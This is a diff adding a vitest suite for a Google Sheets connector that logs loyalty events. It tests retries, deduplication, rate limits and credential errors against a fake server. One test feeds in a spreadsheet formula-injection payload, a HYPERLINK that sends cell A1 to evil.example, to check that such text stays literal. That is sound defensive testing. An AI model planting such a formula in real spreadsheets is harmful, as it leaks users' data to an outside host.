@@ -1,0 +1,413 @@
+import {
+  type DeliveryItem,
+  PermanentError,
+  parseEngageEvent,
+  RetryableError,
+  settleBatch,
+} from "@engage-bridge/core";
+import { createServiceAccount, type FakeGoogle, sampleEvent, startFakeGoogle } from "@engage-bridge/testkit";
+import { afterEach, describe, expect, it, vi } from "vitest";
+import { type GoogleSheetsConfig, googleSheetsConfigSchema } from "./config.ts";
+import { googleSheetsConnector } from "./connector.ts";
+import { HEADER, type LoyaltyEvent } from "./rows.ts";
+
+const fakes: FakeGoogle[] = [];
+afterEach(async () => {
+  for (const fake of fakes.splice(0)) await fake.close();
+});
+
+async function fakeGoogle(): Promise<FakeGoogle> {
+  const fake = await startFakeGoogle();
+  fakes.push(fake);
+  return fake;
+}
+
+function configFor(fake: FakeGoogle, overrides: Partial<Record<string, unknown>> = {}): GoogleSheetsConfig {
+  return googleSheetsConfigSchema.parse({ ...fake.connectorConfig(), ...overrides });
+}
+
+function context(config: GoogleSheetsConfig, signal: AbortSignal = AbortSignal.timeout(20_000)) {
+  const logs: unknown[] = [];
+  const log = (obj: unknown, msg?: string) => logs.push([obj, msg]);
+  const health = { unhealthy: vi.fn<(reason: string) => void>(), healthy: vi.fn<() => void>() };
+  const pace = vi.fn<() => Promise<void>>(async () => undefined);
+  return {
+    config,
+    signal,
+    health,
+    pace,
+    logs,
+    logger: { debug: log, info: log, warn: log, error: log },
+    lookupContact: undefined,
+  };
+}
+
+let received = Date.parse("2026-11-28T10:00:00Z");
+function item(
+  type: LoyaltyEvent["type"],
+  payload: Record<string, unknown> = {},
+  attempt = 1,
+): DeliveryItem<LoyaltyEvent> {
+  const event = parseEngageEvent(sampleEvent(type, { payload })) as LoyaltyEvent;
+  received += 1000;
+  return { deliveryId: `d-${event.id}`, event, attempt, receivedAt: new Date(received) };
+}
+
+const appends = (fake: FakeGoogle) => fake.requests.filter((r) => r.operation === "append");
+const eventIds = (fake: FakeGoogle, config: GoogleSheetsConfig) =>
+  fake.rows(config.spreadsheetId, config.sheetName).map((row) => row[2]);
+
+describe("googleSheets connector", () => {
+  it("writes the header once, then one row per event with the columns of its type", async () => {
+    const fake = await fakeGoogle();
+    const config = configFor(fake);
+    const points = item("loyalty.addPoints", { createdAt: "2026-11-28T09:59:58+01:00" });
+    const balance = item("point.balance.updated");
+    const voucher = item("reward.voucher.created");
+    const ctx = context(config);
+    const results = await googleSheetsConnector.deliver([points, balance, voucher], ctx);
+    expect(results).toEqual([{ status: "delivered" }, { status: "delivered" }, { status: "delivered" }]);
+    // Header and rows: two writes in one delivery, the second paced by the gateway's limiter.
+    expect(ctx.pace).toHaveBeenCalledTimes(1);
+    // A second batch (and a second instance on the same sheet) writes no second header.
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config));
+    await googleSheetsConnector.deliver(
+      [item("loyalty.addPoints")],
+      context(configFor(fake, { spreadsheetId: config.spreadsheetId })),
+    );
+
+    const rows = fake.rows(config.spreadsheetId, "Loyalty");
+    expect(rows).toHaveLength(6);
+    expect(rows[0]).toEqual([...HEADER]);
+    expect(rows.filter((r) => r[0] === "Received at")).toHaveLength(1);
+    const contact = "1c9b35d6-28d8-4520-8900-a89555f7f0c5";
+    expect(rows[1]).toEqual([
+      points.receivedAt.toISOString(),
+      "2026-11-28T09:59:58+01:00",
+      points.event.id,
+      "loyalty.addPoints",
+      contact,
+      150.5,
+      "",
+      "",
+      "",
+      "",
+      "",
+      "",
+      "",
+    ]);
+    expect(rows[2]).toEqual([
+      balance.receivedAt.toISOString(),
+      "",
+      balance.event.id,
+      "point.balance.updated",
+      contact,
+      "",
+      2500.75,
+      "2027-12-31T23:59:59.999+01:00",
+      "",
+      "",
+      "",
+      "",
+      "",
+    ]);
+    expect(rows[3]).toEqual([
+      voucher.receivedAt.toISOString(),
+      "",
+      voucher.event.id,
+      "reward.voucher.created",
+      contact,
+      "",
+      "",
+      "",
+      "f0e1d2c3-b4a5-4968-8776-655443322110",
+      "VCH-9QX4-7KTB",
+      100,
+      "SEK",
+      "2027-02-28T23:59:59+01:00",
+    ]);
+    // Every write was a RAW INSERT_ROWS append; the token came from a verified assertion.
+    expect(appends(fake).every((r) => r.query.valueInputOption === "RAW")).toBe(true);
+    expect(appends(fake).every((r) => r.query.insertDataOption === "INSERT_ROWS")).toBe(true);
+    const tokens = fake.requests.filter((r) => r.operation === "token");
+    expect(tokens.length).toBeGreaterThanOrEqual(1);
+    expect(tokens.every((r) => r.status === 200)).toBe(true);
+    expect(ctx.health.healthy).toHaveBeenCalled();
+  });
+
+  it("keeps text that looks like a formula literal", async () => {
+    const fake = await fakeGoogle();
+    const config = configFor(fake);
+    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Claim")';
+    await googleSheetsConnector.deliver(
+      [item("reward.voucher.created", { UniqueCode: formula, Currency: "=1+1", Id: "+SUM(A1:A9)" })],
+      context(config),
+    );
+    const [, row] = fake.rows(config.spreadsheetId, "Loyalty");
+    expect(row?.[8]).toBe("+SUM(A1:A9)");
+    expect(row?.[9]).toBe(formula);
+    expect(row?.[11]).toBe("=1+1");
+    expect(row?.some((cell) => typeof cell === "object")).toBe(false);
+  });
+
+  it("reads back after an append whose connection dropped, and writes nothing twice", async () => {
+    const fake = await fakeGoogle();
+    const config = configFor(fake);
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config));
+    fake.dropAfterApply(1);
+    const batch = Array.from({ length: 5 }, () => item("loyalty.addPoints"));
+    const ctx2 = context(config);
+    const results = await googleSheetsConnector.deliver(batch, ctx2);
+    expect(results.every((r) => r.status === "delivered")).toBe(true);
+    const ids = eventIds(fake, config);
+    expect(ids).toHaveLength(7);
+    expect(new Set(ids).size).toBe(7);
+    const dropped = appends(fake).find((r) => r.dropped);
+    expect(dropped?.applied).toBe(true);
+    // After the drop: a read-back of the event-id column and no second append.
+    const after = fake.requests.filter((r) => r.at >= (dropped?.at ?? 0) && r !== dropped);
+    expect(after.map((r) => r.operation)).toEqual(["get"]);
+    expect(ctx2.pace).not.toHaveBeenCalled();
+    expect(after[0]?.range).toMatch(/!C\d+:C$/);
+  });
+
+  it("appends only the missing rows when the dropped append was not applied", async () => {
+    const fake = await fakeGoogle();
+    const config = configFor(fake);
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config));
+    fake.failNext(1, { drop: true });
+    const batch = Array.from({ length: 3 }, () => item("point.balance.updated"));
+    const ctx = context(config);
+    await googleSheetsConnector.deliver(batch, ctx);
+    // The second append of the delivery waited for the rate limit.
+    expect(ctx.pace).toHaveBeenCalledTimes(1);
+    const ids = eventIds(fake, config);
+    expect(ids).toHaveLength(5);
+    expect(new Set(ids).size).toBe(5);
+    expect(appends(fake).filter((r) => r.dropped)).toHaveLength(1);
+  });
+
+  it("leaves no duplicate when the read-back fails too and the engine retries the batch", async () => {
+    const fake = await fakeGoogle();
+    const config = configFor(fake);
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config));
+    fake.dropAfterApply(1);
+    fake.failNext(1, { status: 503 }, "get");
+    const batch = Array.from({ length: 4 }, () => item("loyalty.addPoints"));
+    const failed = await googleSheetsConnector.deliver(batch, context(config)).then(
+      () => undefined,
+      (error: unknown) => error,
+    );
+    expect(failed).toBeInstanceOf(RetryableError);
+    expect(settleBatch(4, { error: failed }).every((r) => r.status === "retry")).toBe(true);
+    // The engine's next attempt: same items, attempt 2.
+    const again = batch.map((i) => ({ ...i, attempt: 2 }));
+    const results = await googleSheetsConnector.deliver(again, context(config));
+    expect(results.every((r) => r.status === "delivered")).toBe(true);
+    const ids = eventIds(fake, config);
+    expect(ids).toHaveLength(6);
+    expect(new Set(ids).size).toBe(6);
+  });
+
+  it("after a restart, finds the rows an earlier process appended before it stopped", async () => {
+    const fake = await fakeGoogle();
+    const input = fake.connectorConfig();
+    const batch = Array.from({ length: 3 }, () => item("loyalty.addPoints"));
+    // The earlier process: its append landed, but it never recorded the deliveries.
+    await googleSheetsConnector.deliver(batch, context(googleSheetsConfigSchema.parse(input)));
+    vi.resetModules();
+    const fresh = await import("./connector.ts");
+    const freshSchema = (await import("./config.ts")).googleSheetsConfigSchema;
+    const config = freshSchema.parse(input);
+    // The lease ran out: the same deliveries come back with attempt 1 to a new process.
+    const results = await fresh.googleSheetsConnector.deliver(
+      [...batch, item("loyalty.addPoints")],
+      context(config),
+    );
+    expect(results.every((r) => r.status === "delivered")).toBe(true);
+    const ids = eventIds(fake, config);
+    expect(ids).toHaveLength(5);
+    expect(new Set(ids).size).toBe(5);
+    // The new process read the whole event-id column once.
+    expect(fake.requests.some((r) => r.operation === "get" && r.range === "'Loyalty'!C1:C")).toBe(true);
+  });
+
+  it("throws a rate-limited retryable error on 429 and writes once the quota allows", async () => {
+    const fake = await fakeGoogle();
+    const config = configFor(fake);
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config));
+    fake.writeQuota = { requests: 1, perSeconds: 1 };
+    const batch = [item("loyalty.addPoints"), item("reward.voucher.created")];
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config)).catch(() => undefined);
+    const error = await googleSheetsConnector.deliver(batch, context(config)).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(RetryableError);
+    expect((error as RetryableError).rateLimited).toBe(true);
+    expect((error as Error).message).toMatch(/quota exceeded \(429 RESOURCE_EXHAUSTED\)/);
+    const limited = fake.requests.filter((r) => r.status === 429);
+    expect(limited.length).toBeGreaterThanOrEqual(1);
+    await new Promise((r) => setTimeout(r, 1_100));
+    const retried = batch.map((i) => ({ ...i, attempt: 2 }));
+    expect(await googleSheetsConnector.deliver(retried, context(config))).toHaveLength(2);
+    const ids = eventIds(fake, config);
+    expect(new Set(ids).size).toBe(ids.length);
+    expect(ids).toContain(batch[1]?.event.id);
+  });
+
+  it("exchanges a new token once when Google revokes the current one", async () => {
+    const fake = await fakeGoogle();
+    const config = configFor(fake);
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config));
+    fake.revokeTokens();
+    const ctx = context(config);
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], ctx);
+    expect(eventIds(fake, config)).toHaveLength(3);
+    expect(fake.requests.filter((r) => r.operation === "token" && r.status === 200)).toHaveLength(2);
+    expect(fake.requests.filter((r) => r.status === 401)).toHaveLength(1);
+    expect(ctx.health.unhealthy).not.toHaveBeenCalled();
+  });
+
+  it("is dead and unhealthy when Google refuses the credentials (401)", async () => {
+    const fake = await fakeGoogle();
+    const config = configFor(fake);
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config));
+    const key = JSON.parse(config.serviceAccount ?? "{}") as { client_email: string };
+    fake.removeServiceAccount(key.client_email);
+    fake.revokeTokens();
+    const ctx = context(config);
+    const error = await googleSheetsConnector
+      .deliver([item("loyalty.addPoints")], ctx)
+      .catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(PermanentError);
+    expect((error as Error).message).toMatch(
+      /refused the service-account credentials at tokenUrl \(400 invalid_grant/,
+    );
+    expect((error as Error).message).not.toContain(key.client_email);
+    expect(ctx.health.unhealthy).toHaveBeenCalledWith((error as Error).message);
+    expect(settleBatch(1, { error })).toEqual([{ status: "dead", reason: (error as Error).message }]);
+  });
+
+  it("is dead and unhealthy when the spreadsheet is not shared with the account (403)", async () => {
+    const fake = await fakeGoogle();
+    const config = configFor(fake);
+    const key = JSON.parse(config.serviceAccount ?? "{}") as { client_email: string };
+    fake.share(config.spreadsheetId, key.client_email, false);
+    const ctx = context(config);
+    const error = await googleSheetsConnector
+      .deliver([item("loyalty.addPoints")], ctx)
+      .catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(PermanentError);
+    expect((error as Error).message).toMatch(/may not write to the spreadsheet \(403 PERMISSION_DENIED\)/);
+    expect(ctx.health.unhealthy).toHaveBeenCalledTimes(1);
+  });
+
+  it("is dead with a clear message for an unknown spreadsheet (404) or sheet", async () => {
+    const fake = await fakeGoogle();
+    const missing = configFor(fake, { spreadsheetId: "1DoesNotExist" });
+    const ctx = context(missing);
+    const error = await googleSheetsConnector
+      .deliver([item("loyalty.addPoints")], ctx)
+      .catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(PermanentError);
+    expect((error as Error).message).toBe(
+      "spreadsheet not found (404 NOT_FOUND): check spreadsheetId and that the spreadsheet is shared with the service account",
+    );
+    expect(ctx.health.unhealthy).toHaveBeenCalled();
+
+    const noTab = configFor(fake, { sheetName: "Points log" });
+    fake.createSpreadsheet(noTab.spreadsheetId, { sheets: ["Sheet1"] });
+    const tabError = await googleSheetsConnector
+      .deliver([item("loyalty.addPoints")], context(noTab))
+      .catch((e: unknown) => e);
+    expect(tabError).toBeInstanceOf(PermanentError);
+    expect((tabError as Error).message).toMatch(/sheet "Points log" does not exist in the spreadsheet/);
+  });
+
+  it("serializes appends of two connector instances writing to one spreadsheet", async () => {
+    const fake = await fakeGoogle();
+    const a = configFor(fake);
+    const b = configFor(fake, { spreadsheetId: a.spreadsheetId });
+    fake.latencyMs = 60;
+    await Promise.all([
+      googleSheetsConnector.deliver([item("loyalty.addPoints"), item("loyalty.addPoints")], context(a)),
+      googleSheetsConnector.deliver([item("point.balance.updated")], context(b)),
+      googleSheetsConnector.deliver([item("reward.voucher.created")], context(a)),
+      googleSheetsConnector.deliver([item("loyalty.addPoints")], context(b)),
+    ]);
+    const api = fake.requests.filter((r) => r.operation !== "token");
+    for (let i = 1; i < api.length; i++) {
+      expect(api[i]?.at ?? 0).toBeGreaterThanOrEqual(api[i - 1]?.answeredAt ?? Number.POSITIVE_INFINITY);
+    }
+    const rows = fake.rows(a.spreadsheetId, "Loyalty");
+    expect(rows).toHaveLength(6);
+    expect(rows.filter((r) => r[0] === "Received at")).toHaveLength(1);
+  });
+
+  it("retries, and writes nothing, when Google cannot be reached", async () => {
+    const fake = await fakeGoogle();
+    const config = configFor(fake, { rootUrl: "http://127.0.0.1:9/" });
+    const error = await googleSheetsConnector
+      .deliver([item("loyalty.addPoints")], context(config))
+      .catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(RetryableError);
+    expect((error as Error).message).toMatch(/no answer from Google Sheets \(ECONNREFUSED\)/);
+  });
+
+  it("returns promptly when the attempt's signal aborts", async () => {
+    const fake = await fakeGoogle();
+    const config = configFor(fake);
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config));
+    fake.latencyMs = 5_000;
+    const started = Date.now();
+    const error = await googleSheetsConnector
+      .deliver([item("loyalty.addPoints")], context(config, AbortSignal.timeout(200)))
+      .catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(RetryableError);
+    expect(Date.now() - started).toBeLessThan(3_000);
+    fake.latencyMs = 0;
+  });
+});
+
+describe("init", () => {
+  const initContext = (config: GoogleSheetsConfig) => {
+    const { logger, health, signal } = context(config);
+    return { logger, health, signal, lookupContact: undefined };
+  };
+
+  it("checks the sheet and writes the header at start", async () => {
+    const fake = await fakeGoogle();
+    const config = configFor(fake);
+    await googleSheetsConnector.init?.(config, initContext(config));
+    expect(fake.rows(config.spreadsheetId, "Loyalty")).toEqual([[...HEADER]]);
+  });
+
+  it("refuses to start with a key Google does not accept, naming no secret", async () => {
+    const fake = await fakeGoogle();
+    const stranger = createServiceAccount();
+    const config = configFor(fake, { serviceAccount: stranger.json });
+    const error = await googleSheetsConnector.init?.(config, initContext(config)).catch((e: unknown) => e);
+    expect((error as Error).message).toMatch(/invalid_grant: Invalid grant: account not found/);
+    expect((error as Error).message).not.toContain(stranger.key.client_email);
+    expect((error as Error).message).not.toContain("PRIVATE KEY");
+  });
+
+  it("refuses to start with an unreadable key file or a file that is no key", async () => {
+    const fake = await fakeGoogle();
+    const { serviceAccount: _, ...rest } = fake.connectorConfig();
+    const missing = googleSheetsConfigSchema.parse({ ...rest, serviceAccountFile: "/nonexistent/sa.json" });
+    await expect(googleSheetsConnector.init?.(missing, initContext(missing))).rejects.toThrow(
+      "serviceAccountFile /nonexistent/sa.json cannot be read (ENOENT)",
+    );
+    const junk = googleSheetsConfigSchema.parse({
+      ...rest,
+      serviceAccount: '{"client_email":"x@y.z","private_key":"secret-ish"}',
+    });
+    const error = await googleSheetsConnector.init?.(junk, initContext(junk)).catch((e: unknown) => e);
+    expect((error as Error).message).toBe("serviceAccount: private_key is not a PEM-encoded RSA private key");
+  });
+
+  it("starts anyway when Google cannot be reached", async () => {
+    const fake = await fakeGoogle();
+    const config = configFor(fake, { rootUrl: "http://127.0.0.1:9/" });
+    await expect(googleSheetsConnector.init?.(config, initContext(config))).resolves.toBeUndefined();
+  });
+});
